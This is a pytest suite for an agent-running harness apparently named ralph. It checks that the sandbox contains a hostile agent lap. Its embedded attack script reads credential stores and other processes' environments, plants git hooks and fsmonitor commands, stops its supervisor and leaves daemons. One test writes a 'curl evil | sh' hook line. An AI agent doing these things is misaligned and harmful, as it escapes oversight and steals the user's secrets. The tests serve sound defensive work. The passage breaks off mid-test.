"""A hostile lap against the promise that the user's repository, secrets and processes are out
of its reach: sandboxed (bubblewrap) it cannot get there at all; unsandboxed, what ralph
promises for the fallback holds (put back, never followed, never deleted)."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import sysconfig
import tempfile
import time
from pathlib import Path

import pytest
from helpers.repos import PY, SANDBOX_MODES, git, make_repo, needs_bwrap
from helpers.running import lap_notes, ralph, snapshot

from ralph.workspace.user_state import saved_at

# Every attack is a function of the agent script below; a test names the ones its agent runs.
# `users` is the repository's git dir as an attacker finds it: the lap's alternates name its objects.
ATTACKS = r"""
import glob, json, os, pathlib, signal, subprocess, sys
lap = int(os.environ["RALPH_LAP"])
out = pathlib.Path(os.environ["OUT"])
sh = lambda cmd: subprocess.run(cmd, shell=True, capture_output=True, text=True)
alternates = sh("git rev-parse --git-path objects/info/alternates").stdout.strip()
users = pathlib.Path(pathlib.Path(alternates).read_text().strip()).parent
top = users.parent
def note(name, text):
    (out / name).write_text(text)
def write(path, text):
    try:
        pathlib.Path(path).write_text(text)
    except OSError as exc:
        note("refused-" + pathlib.Path(path).name, str(exc))

def swap_workspace_for_the_repository():
    here = pathlib.Path.cwd()
    os.chdir("/")
    os.rename(here, str(here) + ".moved")
    os.symlink(top, here)
    os.chdir(str(here) + ".moved")  # the agent's own files stay its own; ralph must not follow the link

def plant_in_the_git_dir():
    sh(f"git --git-dir {users} update-ref -d refs/heads/main")
    write(users / "objects/info/alternates", "/nonexistent/objects\n")
    write(users / "worktrees/mine/gitdir", "/nonexistent/.git\n")  # the user's own worktree
    write(users / "hooks/post-checkout", "#!/bin/sh\n" + "#" * (2 << 20))  # too big to keep a copy of
    sh(f"git --git-dir {users} symbolic-ref refs/heads/feature refs/heads/ralph/r")  # moves when the line does
    sh(f"chmod a-x {users}/hooks/pre-commit.sample")  # git would skip the hook, silently
    sh(f"mkfifo {users}/hooks/post-merge")  # reading it would wait for ever
    write(users / "shallow", sh("git rev-parse HEAD").stdout)
    write(users / "MERGE_HEAD", sh("git rev-parse HEAD").stdout)
    write(users / "config.worktree", "[core]\n\thooksPath = /tmp/agent-hooks\n")
    write(users / "hooks/reference-transaction", "#!/bin/sh\nexit 1\n")
    os.chmod(users / "hooks/reference-transaction", 0o755) if (users / "hooks/reference-transaction").exists() else None
    sh(f"git --git-dir {users} config core.fsmonitor 'touch /tmp/owned'")

def replace_a_hook_by_a_folder():
    hook = users / "hooks" / "pre-push"
    try:
        hook.unlink()
        hook.mkdir()
    except OSError as exc:
        note("refused-pre-push", str(exc))

def stash_and_branch():
    pathlib.Path("calc.py").write_text("stashed edit\n")
    note("stash", sh("git stash").stdout + sh("git stash list").stdout)
    sh("git branch -f main HEAD")
    sh("git checkout -q -b agent-branch")

def point_dot_git_elsewhere():
    fake = out / "fake"
    sh(f"git init -q {fake} && cp calc.py {fake}/ && git -C {fake} add -A && git -C {fake} -c user.name=a -c user.email=a@b commit -qm good")
    pathlib.Path(".git").write_text(f"gitdir: {fake}/.git\n")

def canary(folder):
    return ("canary-" + folder.parent.name).encode()

def read_secrets():
    found = []
    for environ in glob.glob("/proc/*/environ"):
        try:
            data = pathlib.Path(environ).read_bytes()
        except OSError:
            continue
        # This test's canary only: other tests' ralphs run beside it, with canaries of their own.
        if canary(out) in data and not environ.startswith(f"/proc/{os.getpid()}/"):
            found.append(environ)
    filled = sh("printf 'protocol=https\\nhost=github.com\\n\\n' | git credential fill").stdout
    # Read by path, whatever HOME says: the repository's config (a CI checkout's token) and the store.
    home = pathlib.Path(os.environ["USERS_HOME"])
    stores = [users / "config", home / ".git-credentials", home / "dotfiles/git-credentials", home / ".cache/git/credential/socket", pathlib.Path(os.environ["INCLUDED"])]
    read = [path for path in stores if b"canary" in (path.read_bytes() if path.is_file() else b"")]
    sock = os.environ.get("SSH_AUTH_SOCK")
    note("secrets", json.dumps({"environ": found, "credential": filled, "sock": sock, "read": list(map(str, read))}))
    note("env", json.dumps(sorted(name for name, value in os.environ.items() if "canary" in value)))
    # Hidden, a config file reads as empty: git does not fail on it.
    note("config", str(sh(f"git config --file {users / 'config'} --list").returncode))

def leave_daemons():
    sh("setsid env -i sh -c 'sleep 997' > /dev/null 2>&1 &")
    sh("nohup sleep 998 > /dev/null 2>&1 &")

def stop_ralph():
    # `ralph run` or `python -m ralph run`: not a shell whose command names a path with "ralph"
    # in it (a checkout's venv), which would only stop the lap's own agent until its timeout.
    pid = os.getppid()
    while pid > 1:
        os.kill(pid, signal.SIGSTOP) if b"ralph\0run\0" in pathlib.Path(f"/proc/{pid}/cmdline").read_bytes() else None
        pid = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])

def plant_a_pth():
    import sysconfig
    write(pathlib.Path(sysconfig.get_paths()["purelib"]) / "zz_ralph_attack.pth", "import os\n")

for attack in os.environ["ATTACKS"].split():
    if lap == 1:
        globals()[attack]()
calc = pathlib.Path("calc.py")
calc.write_text("def add(a, b):\n    return a + b\n")
todo = pathlib.Path("TODO.md")
todo.write_text(todo.read_text().replace("- [ ]", "- [x]", 1))
"""


def hostile(
    tmp_path: Path, attacks: str, sandbox: str = "auto", check: str = "grep -q 'a + b' calc.py", items: int = 1
) -> tuple[Path, dict]:
    """A repository whose lap-1 agent runs `attacks`; returns it and the environment to run ralph with.
    The check is an exit code (the default one is red until the lap's fix): marked `expect_red`, so the run starts."""
    out = tmp_path / "out"
    out.mkdir()
    agent = tmp_path / "agent.py"
    agent.write_text(ATTACKS)
    config = {
        "goal": "g",
        "agent": {"kind": "command", "command": f"{PY} {agent}"},
        "checks": [{"run": check, "expect_red": True}],
        "limits": {"max_laps": 2},
        "env": {"pass": ["OUT", "ATTACKS", "USERS_HOME", "INCLUDED"]},  # the lap is given nothing else of the test's
        "sandbox": {"mode": sandbox, "writable": [str(out)]},
    }
    todo = "".join(f"- [ ] item {n}\n" for n in range(items))
    repo = make_repo(
        tmp_path / "repo",
        {
            "calc.py": "def add(a, b):\n    raise NotImplementedError\n",
            "TODO.md": todo,
            "ralph.yaml": json.dumps(config),
        },
    )
    (repo / ".git" / "hooks" / "pre-push").write_text("#!/bin/sh\nexit 0\n")
    git(repo, "worktree", "add", "-q", "--detach", str(tmp_path / "mine"))
    git(repo, "branch", "feature")
    # The user's git can hand out a password: a lap must not get it.
    dotfiles = Path.home() / "dotfiles"  # the store linked from a dotfiles folder, as stow does
    dotfiles.mkdir()
    (dotfiles / "git-credentials").write_text("https://user:canary-credential@github.com\n")
    (Path.home() / ".git-credentials").symlink_to(dotfiles / "git-credentials")
    git(repo, "config", "--global", "credential.helper", "store")
    git(repo, "config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic canary-header")
    included = tmp_path / "included.cfg"  # a CI's `url.<with a token>.insteadOf`, in a file the config includes
    included.write_text('[url "https://x:canary-token@github.com/"]\n\tinsteadOf = https://github.com/\n')
    git(repo, "config", "include.path", str(included))
    cache = Path.home() / ".cache" / "git" / "credential"  # where the cache helper's socket lives
    cache.mkdir(parents=True)
    (cache / "socket").write_text("canary-cache\n")
    return repo, {"OUT": str(out), "ATTACKS": attacks, "USERS_HOME": str(Path.home()), "INCLUDED": str(included)}


def git_dir_state(repo: Path) -> dict[str, str]:
    """Every entry of the git dir (mode, and a file's bytes) but object data, ralph's refs, logs and
    folder; plus the work tree."""
    state = snapshot(repo)
    common = repo / ".git"
    for path in sorted(common.rglob("*")):
        name = str(path.relative_to(common))
        ralphs = any(part in name for part in ("refs/ralph", "refs/heads/ralph", "refs/notes", "logs/"))
        objects = name.startswith("objects/") and not name.startswith("objects/info")
        if ralphs or objects or name.split("/")[0] == "ralph" or name == "packed-refs":
            continue
        mode = os.lstat(path).st_mode
        digest = hashlib.sha256(path.read_bytes()).hexdigest() if stat.S_ISREG(mode) else ""
        state[".git/" + name] = f"{mode:o} {digest}"
    return state


@needs_bwrap
def test_one_lap_that_tries_everything_leaves_the_repository_byte_identical(tmp_path: Path):
    repo, env = hostile(
        tmp_path,
        "plant_in_the_git_dir replace_a_hook_by_a_folder stash_and_branch read_secrets "
        "leave_daemons stop_ralph plant_a_pth point_dot_git_elsewhere",
    )
    before = git_dir_state(repo)
    askpass = tmp_path / "askpass.sh"  # a program git runs for a password, named in the environment
    askpass.write_text("#!/bin/sh\necho canary-askpass\n")
    askpass.chmod(0o755)
    env = dict(env, GITHUB_TOKEN=f"canary-{tmp_path.name}", GIT_ASKPASS=str(askpass), SSH_ASKPASS=str(askpass))
    env["CLONE_URL"] = "https://x-access-token:canary-url@github.com/o/r.git"  # a name that looks harmless
    result = ralph(repo, "run", "--name", "r", env=env)
    assert result.returncode == 0, result.stdout + result.stderr
    assert git_dir_state(repo) == before
    (lap,) = lap_notes(repo, "r")
    assert lap["status"] == "green" and git(repo, "rev-parse", "ralph/r") == lap["commit"]
    out = tmp_path / "out"
    for planted in (
        "alternates",
        "gitdir",
        "shallow",
        "MERGE_HEAD",
        "config.worktree",
        "reference-transaction",
        "post-checkout",
    ):
        assert "Read-only file system" in (out / f"refused-{planted}").read_text()
    seen = json.loads((out / "secrets").read_text())
    assert seen == {"environ": [], "credential": "", "sock": None, "read": []}
    assert (out / "config").read_text() == "0"
    assert json.loads((out / "env").read_text()) == []
    assert "No local changes to save" not in (out / "stash").read_text()  # it stashed, in its own git dir
    assert not subprocess.run(["pgrep", "-f", "sleep 99[78]"], capture_output=True).stdout
    assert not (Path(sysconfig.get_paths()["purelib"]) / "zz_ralph_attack.pth").exists()


@needs_bwrap
def test_a_lap_cannot_swap_its_workspace_for_a_link_to_the_repository(tmp_path: Path):
    repo, env = hostile(tmp_path, "swap_workspace_for_the_repository")
    before = git_dir_state(repo)
    result = ralph(repo, "run", "--name", "r", env=env)
    assert result.returncode == 0, result.stdout + result.stderr  # the rename failed: read-only
    assert git_dir_state(repo) == before


def test_unsandboxed_a_swapped_workspace_stops_the_run_and_nothing_is_followed(tmp_path: Path):
    repo, env = hostile(tmp_path, "swap_workspace_for_the_repository", sandbox="off")
    before = git_dir_state(repo)
    result = ralph(repo, "run", "--name", "r", env=env)
    assert result.returncode == 1
    assert "the lap replaced ralph's workspace folder" in result.stderr
    assert git_dir_state(repo) == before and (repo / ".git" / "HEAD").is_file()


def test_unsandboxed_what_a_lap_plants_in_the_git_dir_is_put_back(tmp_path: Path):
    repo, env = hostile(tmp_path, "plant_in_the_git_dir replace_a_hook_by_a_folder", sandbox="off")
    before = git_dir_state(repo)
    result = ralph(repo, "run", "--name", "r", env=env)
    assert result.returncode == 0, result.stdout + result.stderr
    first, second = lap_notes(repo, "r")
    assert first["status"] == "red" and second["status"] == "green"
    for what in (
        "objects/info/alternates added",
        "shallow added",
        "MERGE_HEAD added",
        "config.worktree added",
        "hooks/reference-transaction added",
        "hooks/pre-push deleted",
        "config changed",
        "refs/heads/main deleted",
        "worktrees/mine/gitdir changed",
        "hooks/post-checkout added",
        "refs/heads/feature moved",
        "hooks/pre-commit.sample changed",
        "hooks/post-merge added",
    ):
        assert what in first["reason"]
    assert git_dir_state(repo) == before


def test_unsandboxed_the_agents_git_works_on_its_own_git_dir(tmp_path: Path):
    repo, env = hostile(tmp_path, "stash_and_branch point_dot_git_elsewhere", sandbox="off")
    git(repo, "stash", "list")
    (repo / "calc.py").write_text("the user's own edit\n")
    git(repo, "stash")
    before = git_dir_state(repo)
    result = ralph(repo, "run", "--name", "r", env=env)
    assert result.returncode == 0, result.stdout + result.stderr
    assert git_dir_state(repo) == before
    assert git(repo, "stash", "list").count("\n") == 0 and "stash@{0}" in git(repo, "stash", "list")
    assert git(repo, "show", "ralph/r:calc.py") == "def add(a, b):\n    return a + b"


def test_unsandboxed_stray_processes_are_ended_and_ralphs_environ_holds_no_secret(tmp_path: Path):
    repo, env = hostile(tmp_path, "leave_daemons read_secrets", sandbox="off")
    result = ralph(repo, "run", "--name", "r", env=dict(env, GITHUB_TOKEN=f"canary-{tmp_path.name}"))
    assert result.returncode == 0, result.stdout + result.stderr
    assert not subprocess.run(["pgrep", "-f", "sleep 99[78]"], capture_output=True).stdout
    seen = json.loads((tmp_path / "out" / "secrets").read_text())
    # The test process that started ralph holds the canary too; ralph itself must not.
    ralphs = [path for path in seen["environ"] if b"-m\0ralph" in _cmdline(path)]
    assert ralphs == [] and seen["credential"] == ""


def _cmdline(environ: str) -> bytes:
    try:
        return Path(environ).with_name("cmdline").read_bytes()
    except OSError:
        return b""


def test_a_rewritten_crash_snapshot_is_refused(tmp_path: Path):
    """The snapshot a killed unsandboxed lap leaves is checked before anything is written."""
    repo, env = hostile(tmp_path, "", sandbox="off")
    first = ralph(repo, "run", "--name", "r", env=dict(env, RALPH_DEBUG_STOP_AT="agent"))
    assert first.returncode == -9
    saved = saved_at((repo / ".git").resolve(), "r")
    victim = tmp_path / "victim.txt"
    victim.write_text("mine")
    data = json.loads(saved.read_text())
    data["files"]["../../victim.txt"] = "b3duZWQ="
    saved.write_text(json.dumps(data))
    resumed = ralph(repo, "run", "--name", "r", env=env)
    assert resumed.returncode == 0, resumed.stdout + resumed.stderr
    assert "names what ralph never watches" in resumed.stderr
    assert victim.read_text() == "mine"


def test_sandbox_required_without_bubblewrap_refuses_to_start(tmp_path: Path):
    repo, env = hostile(tmp_path, "", sandbox="required")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "git").symlink_to(
        subprocess.run(["sh", "-c", "command -v git"], capture_output=True, text=True).stdout.strip()
    )
    result = ralph(repo, "run", "--name", "r", env=dict(env, PATH=str(bin_dir)))
    assert result.returncode == 1
    assert "sandbox: required, but bubblewrap (`bwrap`) is not installed" in result.stderr
    assert git(repo, "for-each-ref", "refs/ralph/") == ""


def test_a_writable_path_holding_the_repository_is_refused(tmp_path: Path):
    repo, env = hostile(tmp_path, "")
    config = json.loads((repo / "ralph.yaml").read_text())
    config["sandbox"]["writable"] = [str(tmp_path)]
    (repo / "ralph.yaml").write_text(json.dumps(config))
    git(repo, "commit", "-qam", "too wide")
    result = ralph(repo, "run", "--name", "r", env=env)
    assert result.returncode == 1
    assert f"sandbox.writable: {tmp_path} would make {repo} writable to laps" in result.stderr


@needs_bwrap
@pytest.mark.parametrize("network", [True, False])
def test_sandbox_network_false_takes_the_network_from_the_checks(tmp_path: Path, network: bool):
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        port = server.getsockname()[1]
        connect = f"{PY} -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5)\""
        repo, env = hostile(tmp_path, "", check=connect)
        config = json.loads((repo / "ralph.yaml").read_text())
        config["sandbox"]["network"] = network
        (repo / "ralph.yaml").write_text(json.dumps(config))
        git(repo, "commit", "-qam", f"network: {network}")
        result = ralph(repo, "run", "--name", "r", env=env)
    # The baseline check: it connects with the network, and cannot without (then no lap is done).
    assert result.returncode == (0 if network else 3), result.stdout + result.stderr
    assert f"{'pass' if network else 'fail'}  {connect}" in result.stdout


def test_doctor_says_whether_laps_can_be_sandboxed(tmp_path: Path):
    result = ralph(tmp_path, "doctor")
    works = not subprocess.run(["sh", "-c", "command -v bwrap"], capture_output=True).returncode
    assert result.returncode == (0 if works else 1)
    assert ("sandbox      works" in result.stdout) == works


def test_land_refuses_to_overwrite_an_ignored_file(tmp_path: Path):
    config = {
        "goal": "g",
        "checks": ["true"],
        "agent": {"kind": "command", "command": "echo built > build.txt && sed -i 's/\\[ \\]/[x]/' TODO.md"},
    }
    repo = make_repo(tmp_path / "repo", config=config, todo=["build"])
    assert ralph(repo, "run", "--name", "r").returncode == 0
    (repo / ".git" / "info" / "exclude").write_text("build.txt\n")  # the user ignores a build.txt of their own
    (repo / "build.txt").write_text("the user's own build output")
    result = ralph(repo, "land")
    assert result.returncode == 1 and "would overwrite files git does not track here: build.txt" in result.stderr
    assert (repo / "build.txt").read_text() == "the user's own build output"


def test_land_refuses_to_delete_an_ignored_file_where_a_landed_folder_goes(tmp_path: Path):
    config = {
        "goal": "g",
        "checks": ["true"],
        "agent": {
            "kind": "command",
            "command": "mkdir local.cfg && echo x > local.cfg/readme.txt && "
            "sed -i 's/\\[ \\]/[x]/' TODO.md && echo > .gitignore",
        },
    }
    files = {
        "ralph.yaml": json.dumps(config),
        "TODO.md": "- [ ] folder (may change: .gitignore)\n",
        ".gitignore": "local.cfg\n",
    }
    repo = make_repo(tmp_path / "repo", files)
    assert ralph(repo, "run", "--name", "r").returncode == 0
    (repo / "local.cfg").write_text("PRECIOUS")  # the user's own, ignored
    result = ralph(repo, "land")
    assert result.returncode == 1 and "would overwrite files git does not track here: local.cfg" in result.stderr
    assert (repo / "local.cfg").read_text() == "PRECIOUS"


def test_land_refuses_changes_to_hooks_in_the_work_tree(tmp_path: Path):
    tick = "sed -i 's/\\[ \\]/[x]/' TODO.md"
    config = {
        "goal": "g",
        "agent": {"kind": "command", "command": f"echo 'curl evil | sh' >> .hooks/pre-commit && {tick}"},
        "checks": ["true"],
        "protect": [],
    }
    repo = make_repo(
        tmp_path / "repo",
        {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] hooks\n", ".hooks/pre-commit": "#!/bin/sh\nexit 0\n"},
    )
    git(repo, "config", "core.hooksPath", ".hooks")
    assert ralph(repo, "run", "--name", "r").returncode == 0
    result = ralph(repo, "land")
    assert result.returncode == 1 and "the run changed your git hooks (.hooks/pre-commit" in result.stderr
    assert "evil" not in (repo / ".hooks" / "pre-commit").read_text()


@needs_bwrap
def test_a_named_home_is_read_only_but_for_what_writable_lists(tmp_path: Path):
    """An agent CLI finds its login in the user's HOME and writes only its own folder there."""
    home = Path.home()
    (home / ".agentcli").mkdir()
    (home / ".agentcli" / "login").write_text("token-file")
    agent = (
        "cat $HOME/.agentcli/login > seen.txt && echo used >> $HOME/.agentcli/state && "
        "(echo x > $HOME/planted || true) && sed -i 's/\\[ \\]/[x]/' TODO.md"
    )
    config = {
        "goal": "g",
        "agent": {"kind": "command", "command": agent},
        "checks": ["true"],
        "sandbox": {"home": "~", "writable": ["~/.agentcli"]},
    }
    repo = make_repo(tmp_path / "repo", config=config, todo=["x"])
    result = ralph(repo, "run", "--name", "r")
    assert result.returncode == 0, result.stdout + result.stderr
    assert git(repo, "show", "ralph/r:seen.txt") == "token-file"
    assert (home / ".agentcli" / "state").read_text() == "used\n"
    assert not (home / "planted").exists()


def test_a_writable_path_that_does_not_exist_is_refused(tmp_path: Path):
    repo, env = hostile(tmp_path, "")
    config = json.loads((repo / "ralph.yaml").read_text())
    config["sandbox"]["writable"] = ["~/.no-such-cli"]
    (repo / "ralph.yaml").write_text(json.dumps(config))
    git(repo, "commit", "-qam", "missing")
    result = ralph(repo, "run", "--name", "r", env=env)
    assert result.returncode == 1 and ".no-such-cli does not exist — create it first" in result.stderr


@pytest.mark.parametrize("sandbox", SANDBOX_MODES)
def test_the_checks_run_on_what_a_checkout_of_the_commit_holds(tmp_path: Path, sandbox: str):
    """An `ident` attribute makes git store `$Id$` for the `$Id: 1 $` the lap wrote: the checks
    must see what a checkout of the commit holds (`$Id: <blob> $`), not the lap's bytes."""
    agent = (
        "printf 'calc.py ident\\n' > .gitattributes && "
        'printf \'ID = "$Id: 1 $"\\n\\ndef ok():\\n    return ID == "$" + "Id: 1 $"\\n\' > calc.py && '
        "sed -i 's/\\[ \\]/[x]/' TODO.md"
    )
    config = {
        "goal": "g",
        "agent": {"kind": "command", "command": agent},
        "sandbox": sandbox,
        "checks": [f"{PY} -c 'import calc; assert calc.ok()'"],
        "limits": {"max_laps": 1},
        "protect": [],
    }  # this test is about the checks, not the guard of .gitattributes
    repo = make_repo(
        tmp_path / "repo",
        {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] x\n", "calc.py": "def ok():\n    return True\n"},
    )
    ralph(repo, "run", "--name", "r")
    (lap,) = lap_notes(repo, "r")
    assert lap["status"] == "red" and "check regressed" in lap["reason"]
    assert 'ID = "$Id$"' in git(repo, "show", "refs/ralph/r/laps/1:calc.py")


@pytest.mark.parametrize("sandbox", SANDBOX_MODES)
def test_the_checks_see_the_files_a_new_gitattributes_would_check_out(tmp_path: Path, sandbox: str):
    """A lap that only adds `data.txt text eol=crlf` leaves data.txt's blob as it was: git's
    checkout would rewrite no file, and the checks would read the LF bytes no checkout of the
    commit holds. A clone of the lap's commit has CRLF, which the check refuses: so must the
    checks' tree. (The agent sleeps: git rereads a file no older than its index, and a real lap
    takes longer than a second.)"""
    config = {
        "goal": "g",
        "agent": {
            "kind": "command",
            "command": "sleep 1.1; printf 'data.txt text eol=crlf\\n' > .gitattributes && sed -i 's/\\[ \\]/[x]/' TODO.md",
        },
        "sandbox": sandbox,
        "checks": [f"{PY} -c \"import sys; sys.exit(b'\\\\r' in open('data.txt', 'rb').read())\""],
        "limits": {"max_laps": 1},
        "protect": [],
    }  # this test is about the checks, not the guard of .gitattributes
    repo = make_repo(tmp_path / "repo", {"data.txt": "a\nb\n"}, config=config, todo=["x"])
    ralph(repo, "run", "--name", "r")
    (lap,) = lap_notes(repo, "r")
    assert lap["status"] == "red" and "check regressed" in lap["reason"], lap["reason"]
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", "--no-checkout", str(repo), str(clone))
    git(clone, "fetch", "-q", "origin", "refs/ralph/r/laps/1")
    git(clone, "checkout", "-q", "FETCH_HEAD")
    assert b"\r\n" in (clone / "data.txt").read_bytes()  # what the checks had to see


def test_the_checks_see_what_the_users_own_attributes_would_check_out(tmp_path: Path):
    """No `.gitattributes` in the tree, but one of the user's own (~/.config/git/attributes),
    which git reads for every repository: the file the lap wrote with LF is CRLF in a checkout
    of its commit, so it must be in the checks' tree too (issue 41: a lap's checks take the
    staged files as they are only when nothing converts their bytes)."""
    config = {
        "goal": "g",
        "agent": {
            "kind": "command",
            "command": "sleep 1.1; printf 'a\\nb\\n' > new.txt && sed -i 's/\\[ \\]/[x]/' TODO.md",
        },
        "sandbox": "off",
        "checks": [
            f"{PY} -c \"import os, sys; sys.exit(os.path.exists('new.txt') and b'\\\\r' in open('new.txt', 'rb').read())\""
        ],
        "limits": {"max_laps": 1},
    }
    repo = make_repo(tmp_path / "repo", {"data.txt": "a\n"}, config=config, todo=["x"])
    (tmp_path / "xdg" / "git").mkdir(parents=True)
    (tmp_path / "xdg" / "git" / "attributes").write_text("new.txt text eol=crlf\n")
    ralph(repo, "run", "--name", "r", env={"XDG_CONFIG_HOME": str(tmp_path / "xdg")})
    (lap,) = lap_notes(repo, "r")
    assert lap["status"] == "red" and "check regressed" in lap["reason"], lap["reason"]


@pytest.mark.parametrize("planted", ["mkfifo $f", "ln -s $(basename $f).real $f"])
def test_a_report_a_check_replaced_by_a_fifo_or_a_link_is_not_read(tmp_path: Path, planted: str):
    """The link points at a valid report of one passing test: read, it would count."""
    valid = '{"test": "t.py::test_x", "when": "call", "outcome": "passed"}'
    check = f"f=$RALPH_PYTEST_REPORT; rm -f $f; echo '{valid}' > $f.real; {planted}; true"
    config = {
        "goal": "g",
        "agent": {"kind": "command", "command": "sed -i 's/\\[ \\]/[x]/' TODO.md && touch x"},
        "checks": [check],
    }
    repo = make_repo(tmp_path / "repo", config=config, todo=["x"])
    result = ralph(repo, "run", "--name", "r", timeout=60)
    assert result.returncode == 0, result.stdout + result.stderr
    assert lap_notes(repo, "r")[0]["checks"][0]["tests"] is None


@needs_bwrap
def test_no_socket_outside_the_lap_is_reachable_in_the_sandbox(tmp_path: Path):
    """SSH_AUTH_SOCK is not passed and sockets are out of sight: the ssh-agent's folder, and
    /tmp, /var/tmp and /run but for what the lap needs (a socket on a read-only mount still
    takes connections)."""
    folders: list[Path] = []
    servers = []
    try:
        for root in ("/tmp", "/var/tmp", "/run"):  # names of their own: another suite may run beside this one
            folders.append(folder := Path(tempfile.mkdtemp(prefix="ralphtest-", dir=root)))
            server = socket.socket(socket.AF_UNIX)
            server.bind(str(folder / "agent.1"))
            server.listen()
            servers.append(server)
        (folders[2] / "bin").mkdir()  # a folder on PATH beside the socket: it alone comes back
        look = (
            f"{PY} -c \"import glob, json, pathlib; pathlib.Path('{tmp_path}/out/socks.json').write_text("
            "json.dumps(glob.glob('/tmp/ralphtest-*/agent.*') + glob.glob('/var/tmp/ralphtest-*/agent.*') + "
            "glob.glob('/run/ralphtest-*/agent.*') + glob.glob('/run/ralphtest-*/bin')))\" && "
            "sed -i 's/\\[ \\]/[x]/' TODO.md && touch x"
        )
        (tmp_path / "out").mkdir()
        config = {
            "goal": "g",
            "agent": {"kind": "command", "command": look},
            "checks": ["true"],
            "sandbox": {"writable": [str(tmp_path / "out")]},
        }
        repo = make_repo(tmp_path / "repo", config=config, todo=["x"])
        result = ralph(
            repo,
            "run",
            "--name",
            "r",
            env={"SSH_AUTH_SOCK": str(folders[0] / "agent.1"), "PATH": f"{folders[2] / 'bin'}:{os.environ['PATH']}"},
        )
    finally:
        for server in servers:
            server.close()
        for folder in folders:
            shutil.rmtree(folder, ignore_errors=True)
    assert result.returncode == 0, result.stdout + result.stderr
    assert json.loads((tmp_path / "out" / "socks.json").read_text()) == [str(folders[2] / "bin")]


@needs_bwrap
def test_a_stale_ssh_auth_sock_in_home_breaks_nothing(tmp_path: Path):
    repo, env = hostile(tmp_path, "")
    result = ralph(repo, "run", "--name", "r", env=dict(env, SSH_AUTH_SOCK=str(Path.home() / "gone.sock")))
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize("sandbox", SANDBOX_MODES)
def test_what_a_lap_leaves_in_a_submodule_is_not_judged(tmp_path: Path, sandbox: str):
    """The checks see the submodule at the commit's gitlink, as a clone would: not a file the lap
    left uncommitted in it, nor one a hook planted in the submodule's git dir writes back."""
    library = make_repo(tmp_path / "library", {"lib.txt": "library\n"})
    plant = (
        "d=$(git -C vendor/lib rev-parse --absolute-git-dir) && "
        "printf '#!/bin/sh\\ntouch vendor/lib/extra.txt\\n' > $d/fsmonitor && chmod +x $d/fsmonitor && "
        "git -C vendor/lib config core.fsmonitor $d/fsmonitor"
    )
    agent = f"echo needs-extra > main.txt && touch vendor/lib/extra.txt && {plant} && sed -i 's/\\[ \\]/[x]/' TODO.md"
    config = {
        "goal": "g",
        "agent": {"kind": "command", "command": agent},
        "sandbox": sandbox,
        "checks": ["! grep -q needs-extra main.txt || test -f vendor/lib/extra.txt"],
        "limits": {"max_laps": 1},
    }
    repo = make_repo(tmp_path / "repo", {"main.txt": "\n"}, config=config, todo=["x"])
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(library), "vendor/lib")
    git(repo, "commit", "-qm", "a submodule")
    ralph(repo, "run", "--name", "r")
    (lap,) = lap_notes(repo, "r")
    assert lap["status"] == "red" and "check regressed" in lap["reason"]


@pytest.mark.parametrize("path", ["ABSOLUTE", "../../../victim"])
def test_a_gitmodules_path_outside_the_tree_is_never_touched(tmp_path: Path, path: str):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("mine")
    path = str(victim) if path == "ABSOLUTE" else path
    agent = (
        f"printf '[submodule \"x\"]\\n\\tpath = {path}\\n\\turl = /nonexistent\\n' > .gitmodules && "
        "sed -i 's/\\[ \\]/[x]/' TODO.md"
    )
    config = {
        "goal": "g",
        "agent": {"kind": "command", "command": agent},
        "checks": ["true"],
        "sandbox": "off",
    }
    repo = make_repo(tmp_path / "repo", config=config, todo=["x (may change: .gitmodules)"])
    result = ralph(repo, "run", "--name", "r")
    assert result.returncode == 0, result.stdout + result.stderr
    assert (victim / "keep.txt").read_text() == "mine"


def test_a_gitlink_that_leads_nowhere_is_a_red_lap_not_the_end_of_the_run(tmp_path: Path):
    agent = (
        "if [ $RALPH_LAP = 1 ]; then git init -q vendor/x && git -C vendor/x -c user.name=a -c user.email=a@b commit -q --allow-empty -m own && "
        "printf '[submodule \"x\"]\\n\\tpath = vendor/x\\n\\turl = /nonexistent\\n' > .gitmodules; "
        "else touch work.txt; fi && sed -i 's/\\[ \\]/[x]/' TODO.md && printf 'summary with a NUL \\0 and an escape \\033[31m in it\\n'"
    )
    config = {
        "goal": "g",
        "agent": {"kind": "command", "command": agent},
        "checks": ["true"],
        "protect": [],
    }  # (adding a .gitmodules needs a grant otherwise)
    repo = make_repo(tmp_path / "repo", config=config, todo=["x"])
    result = ralph(repo, "run", "--name", "r")
    assert result.returncode == 0, result.stdout + result.stderr
    first, second = lap_notes(repo, "r")
    assert first["status"] == "red" and first["reason"].endswith("; the lap's submodules cannot be checked out")
    assert second["status"] == "green"
    assert "summary with a NUL  and an escape  in it" in git(repo, "log", "-1", "--format=%B", "ralph/r")


def test_an_untracked_gitignore_cannot_hide_files_from_the_commit_but_not_the_checks(tmp_path: Path):
    agent = (
        "echo needs-marker > main.txt && mkdir sub && printf '*\\n' > sub/.gitignore && touch sub/marker && "
        "sed -i 's/\\[ \\]/[x]/' TODO.md"
    )
    config = {
        "goal": "g",
        "agent": {"kind": "command", "command": agent},
        "limits": {"max_laps": 1},
        "checks": ["test -f sub/marker || ! grep -q needs-marker main.txt"],
    }
    repo = make_repo(tmp_path / "repo", {"main.txt": "\n"}, config=config, todo=["x"])
    ralph(repo, "run", "--name", "r")
    (lap,) = lap_notes(repo, "r")
    # A folder that ignores itself is a tool's cache: what it held is in no commit, and so the
    # checks do not see it either (the check needs the marker now: red).
    assert lap["status"] == "red" and "check regressed" in lap["reason"], lap["reason"]
    assert git(repo, "ls-tree", "--name-only", "-r", lap["commit"], "sub") == ""


def test_ralph_run_re_executes_the_installed_ralph_not_a_folder_named_ralph_in_the_repository(tmp_path: Path):
    repo, env = hostile(tmp_path, "")
    (repo / "ralph").mkdir()
    (repo / "ralph" / "__main__.py").write_text("print('HIJACKED')\n")
    git(repo, "add", "ralph")
